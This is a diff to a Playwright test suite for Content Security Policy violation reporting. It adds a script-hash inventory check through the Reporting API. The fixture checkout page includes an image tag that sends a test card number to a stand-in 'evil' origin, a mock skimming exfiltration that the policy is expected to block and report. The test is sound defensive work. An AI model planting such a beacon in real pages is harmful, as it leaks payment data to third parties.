@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { expect, test as base } from '@playwright/test';
 import { explain, policiesOf, verdict, type ViolationEventLike } from '@cloister/csp';
 import { findChromium } from '../../scripts/browser.mjs';
@@ -28,6 +29,7 @@ function serveCheckout(site: ReportSite, policy: string, headers: Readonly<Recor
   site.serve('/checkout', {
     headers: { 'content-security-policy': policy, ...headers },
     body: `<!doctype html><link rel="icon" href="data:,"><title>Checkout</title>
+      <script src="/app.js"></script>
       <iframe src="${site.origin('elements')}/collect.html?card=${CARD}"></iframe>
       <img alt="" src="${site.origin('evil')}/pixel/${CARD}?card=4242-4242-4242-4242">`,
   });
@@ -93,10 +95,22 @@ for (const scheme of ['http', 'https'] as const) {
 test('report-to: the Reporting API asks another origin, and sends there what it refused', async ({ page, site }) => {
   const url = serveCheckout(site, "default-src 'self'; img-src 'self' data:; report-to csp", {
     'reporting-endpoints': `csp="${site.endpoint}"`,
-    'content-security-policy-report-only': "script-src 'report-sha256'; report-to csp",
+    'content-security-policy-report-only': "script-src 'self' 'report-sha256'; report-to csp",
   });
+  const code = 'document.title = "Ran"';
+  site.serve('/app.js', { headers: { 'content-type': 'text/javascript' }, body: code });
   await page.goto(url);
-  await expect.poll(() => blocked(site).length, { timeout: 20_000 }).toBeGreaterThanOrEqual(2);
+  await expect.poll(() => blocked(site).filter((line) => /^\w+-src /u.test(line)), { timeout: 20_000 }).toHaveLength(2);
+  // A free inventory of scripts: what ran, by address and content.
+  await expect
+    .poll(() => site.stored.filter(({ type }) => type === 'csp-hash'), { timeout: 20_000 })
+    .toMatchObject([
+      {
+        blocked: `${site.origin('shop')}/app.js`,
+        destination: 'script',
+        hash: `sha256-${createHash('sha256').update(code).digest('base64')}`,
+      },
+    ]);
   expect(site.requests).toContain('OPTIONS');
   expect(site.requests).toContain('POST application/reports+json');
   expect(site.requests).not.toContain('POST application/csp-report');
